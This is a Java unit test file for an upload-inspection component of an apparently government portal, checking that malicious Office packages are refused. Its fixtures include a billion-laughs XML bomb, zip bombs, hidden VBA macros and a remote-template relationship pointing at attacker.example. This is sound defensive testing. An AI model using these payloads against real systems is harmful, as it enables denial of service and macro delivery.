package uk.gov.inspectorates.portal.security.content;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static uk.gov.inspectorates.portal.security.content.OfficePackages.utf8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gov.inspectorates.portal.core.document.ContentInspector;
import uk.gov.inspectorates.portal.core.document.UploadRejected;
import uk.gov.inspectorates.portal.core.document.UploadRejected.Reason;

/** Office packages through the streaming inspection (docs/adr/0019): real POI documents and hostile ones. */
class OoxmlPackageInspectionTest {

    private static final PdfBoxAndZipInspector INSPECTOR = new PdfBoxAndZipInspector(1 << 20);
    private static final String BILLION_LAUGHS = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
            + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
            + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p>"
            + "<w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>";

    private static String inspect(byte[] file, int chunk) {
        return inspect(INSPECTOR.start("application/x-tika-ooxml", file.length), file, chunk);
    }

    private static String inspect(ContentInspector.Inspection inspection, byte[] file, int chunk) {
        for (int i = 0; i < file.length; i += chunk) {
            inspection.feed(file, i, Math.min(chunk, file.length - i));
        }
        return inspection.conclude();
    }

    private static String inspect(byte[] file) {
        return inspect(file, 8192);
    }

    private static UploadRejected refused(byte[] file) {
        return assertThrows(UploadRejected.class, () -> inspect(file));
    }

    private static void assertRefused(Reason reason, String messagePart, byte[] file) {
        UploadRejected refused = refused(file);
        assertEquals(reason, refused.reason(), refused.getMessage() + " / " + refused.auditDetail());
        assertTrue(refused.getMessage().contains(messagePart), refused.getMessage());
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 7, 4096, 1 << 20})
    void realDocumentsAreNamedByTheirOwnContentTypesWhateverTheChunking(int chunk) {
        assertEquals(OfficePackages.DOCX, inspect(OfficePackages.docx("Northdale findings"), chunk));
        assertEquals(OfficePackages.XLSX, inspect(OfficePackages.xlsx(new String[] {"id"}, new String[] {"C1"}),
                chunk));
        assertEquals(OfficePackages.PPTX, inspect(OfficePackages.pptx("Northdale"), chunk));
    }

    @Test
    void theContentTypeListNeedNotComeFirst() {
        Map<String, byte[]> parts = OfficePackages.partsOf(OfficePackages.docx("x"));
        byte[] types = parts.remove("[Content_Types].xml");
        parts.put("[Content_Types].xml", types);

        assertEquals(OfficePackages.DOCX, inspect(OfficePackages.zip(parts)));
    }

    @Test
    void aZipWithoutAContentTypeListIsAPlainZip() {
        assertEquals("application/zip", inspect(OfficePackages.zip(Map.of("a.txt", utf8("hello")))));
    }

    @Test
    void aDocxSecretlyHoldingAVbaProjectIsRefusedAsMacros() {
        byte[] docx = OfficePackages.with(OfficePackages.docx("x"), "word/vbaProject.bin", new byte[] {1, 2, 3});

        assertRefused(Reason.ACTIVE_CONTENT, "macros", docx);
    }

    @Test
    void macroEnabledDocumentsAreRefusedByTheirContentTypes() {
        byte[] docm = OfficePackages.replacing(OfficePackages.docx("x"), "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml");
        byte[] xlsm = OfficePackages.replacing(OfficePackages.xlsx(new String[] {"id"}), "[Content_Types].xml",
                "<Default ", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Default ");

        assertRefused(Reason.ACTIVE_CONTENT, "macros", docm);
        assertRefused(Reason.ACTIVE_CONTENT, "macros", xlsm);
    }

    @Test
    void activeXControlsAndExcel4MacroSheetsAreRefused() {
        byte[] docx = OfficePackages.docx("x");
        assertRefused(Reason.ACTIVE_CONTENT, "macros", OfficePackages.with(docx, "word/activeX/activeX1.xml",
                utf8("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>")));
        byte[] xlsx = OfficePackages.xlsx(new String[] {"id"});
        assertRefused(Reason.ACTIVE_CONTENT, "macros", OfficePackages.with(xlsx, "xl/macrosheets/sheet1.xml",
                utf8("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>")));
    }

    @Test
    void aRemoteTemplateIsRefused() {
        byte[] docx = OfficePackages.with(OfficePackages.docx("x"), "word/_rels/settings.xml.rels", utf8(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
                        + "package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas."
                        + "openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://"
                        + "attacker.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));

        assertRefused(Reason.ACTIVE_CONTENT, "template", docx);
    }

    @Test
    void anEmbeddedOleObjectWithAVbaProjectIsRefused() throws IOException {
        ByteArrayOutputStream ole = new ByteArrayOutputStream();
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            fs.getRoot().createDirectory("Macros").createDirectory("VBA")
                    .createDocument("dir", new java.io.ByteArrayInputStream(new byte[600]));
            fs.writeFilesystem(ole);
        }
        byte[] docx = OfficePackages.with(OfficePackages.docx("x"), "word/embeddings/oleObject1.bin",
                ole.toByteArray());

        assertRefused(Reason.ACTIVE_CONTENT, "macros", docx);
    }

    @Test
    void anXmlPartDeclaringEntitiesIsRefusedAsABombInUtf8AndUtf16() {
        byte[] docx = OfficePackages.docx("x");
        assertRefused(Reason.TOO_COMPLEX, "XML bomb", OfficePackages.with(docx, "word/document.xml",
                utf8(BILLION_LAUGHS)));
        assertRefused(Reason.TOO_COMPLEX, "XML bomb", OfficePackages.with(docx, "word/document.xml",
                BILLION_LAUGHS.replace("encoding", "x").getBytes(StandardCharsets.UTF_16LE)));
        assertRefused(Reason.TOO_COMPLEX, "XML bomb", OfficePackages.with(docx, "[Content_Types].xml",
                utf8(BILLION_LAUGHS)));
    }

    @Test
    void aPartThatInflatesTooFarIsRefusedAsABombWithoutInflatingItAll() {
        byte[] bomb = OfficePackages.with(OfficePackages.docx("x"), "word/media/image1.png", new byte[20 << 20]);
        assertTrue(bomb.length < 1 << 20, "a small file: " + bomb.length);

        long start = System.nanoTime();
        assertRefused(Reason.TOO_COMPLEX, "expands more than 100 times", bomb);
        assertTrue(System.nanoTime() - start < 5_000_000_000L, "stopped early");
    }

    @Test
    void aPackageExpandingBeyondTheTotalIsRefused() {
        Map<String, byte[]> parts = new LinkedHashMap<>(OfficePackages.partsOf(OfficePackages.docx("x")));
        Random random = new Random(1);
        for (int i = 0; i < 5; i++) {
            byte[] noise = new byte[300_000];
            random.nextBytes(noise);
            parts.put("word/media/image" + i + ".png", noise);
        }
        ContentInspector.Inspection small = new OoxmlPackageInspection(new ZipStream.Budget(100, 1 << 20, 100,
                1 << 20));

        UploadRejected refused = assertThrows(UploadRejected.class,
                () -> inspect(small, OfficePackages.zip(parts), 4096));
        assertEquals(Reason.TOO_COMPLEX, refused.reason());
        assertTrue(refused.getMessage().contains("expands to more than 1 MB"), refused.getMessage());
    }

    @Test
    void aPackageOfTooManyPartsIsRefused() {
        Map<String, byte[]> parts = new LinkedHashMap<>(OfficePackages.partsOf(OfficePackages.docx("x")));
        for (int i = 0; i < 20; i++) {
            parts.put("customXml/item" + i + ".xml", utf8("<a/>"));
        }
        ContentInspector.Inspection small = new OoxmlPackageInspection(new ZipStream.Budget(20, 1 << 30, 100,
                1 << 20));

        UploadRejected refused = assertThrows(UploadRejected.class,
                () -> inspect(small, OfficePackages.zip(parts), 4096));
        assertTrue(refused.getMessage().contains("more than 20 parts"), refused.getMessage());
    }

    @Test
    void anEmbeddedWorkbookIsInspectedAndAcceptedButNotAZipElsewhereNorTwoLevelsDeep() {
        byte[] chart = OfficePackages.xlsx(new String[] {"year", "count"}, new String[] {"2025", "12"});
        byte[] docx = OfficePackages.docx("with a chart");

        assertEquals(OfficePackages.DOCX, inspect(OfficePackages.with(docx,
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx", chart)));
        assertRefused(Reason.TOO_COMPLEX, "zip file inside", OfficePackages.with(docx, "word/media/archive.zip",
                chart));
        byte[] deeper = OfficePackages.with(chart, "xl/embeddings/inner.docx", docx);
        assertRefused(Reason.TOO_COMPLEX, "zip file inside", OfficePackages.with(docx,
                "word/embeddings/outer.xlsx", deeper));
    }

    @Test
    void anEmbeddedWorkbookWithMacrosIsRefused() {
        byte[] xlsm = OfficePackages.with(OfficePackages.xlsx(new String[] {"id"}), "xl/vbaProject.bin",
                new byte[] {1});

        assertRefused(Reason.ACTIVE_CONTENT, "macros", OfficePackages.with(OfficePackages.docx("x"),
                "word/embeddings/Microsoft_Excel_Worksheet.xlsm", xlsm));
    }

    @Test
    void aDirectoryEntryPointingSomewhereElseIsRefused() {
        byte[] docx = OfficePackages.docx("x");
        int central = lastIndexOf(docx, new byte[] {'P', 'K', 1, 2});
        docx[central + 42] ^= 0x10; // the last directory entry's local header offset

        assertRefused(Reason.UNREADABLE, "not where it says", docx);
    }

    @Test
    void bytesAfterTheEndOrACutShortPackageAreRefused() {
        byte[] docx = OfficePackages.docx("x");
        byte[] trailing = Arrays.copyOf(docx, docx.length + 10);

        assertRefused(Reason.UNREADABLE, "after the end", trailing);
        assertRefused(Reason.UNREADABLE, "could not be read", Arrays.copyOf(docx, docx.length - 30));
        assertRefused(Reason.UNREADABLE, "could not be read", Arrays.copyOf(docx, docx.length / 2));
    }

    @Test
    void anEncryptedPartIsRefusedAsPasswordProtected() {
        byte[] zip = OfficePackages.zip(Map.of("a.txt", utf8("secret")));
        zip[6] |= 1; // general purpose flag: encrypted

        assertEquals(Reason.ENCRYPTED, refused(zip).reason());
    }

    private static int lastIndexOf(byte[] bytes, byte[] pattern) {
        for (int i = bytes.length - pattern.length; i >= 0; i--) {
            if (Arrays.equals(bytes, i, i + pattern.length, pattern, 0, pattern.length)) {
                return i;
            }
        }
        throw new AssertionError("not found");
    }
}
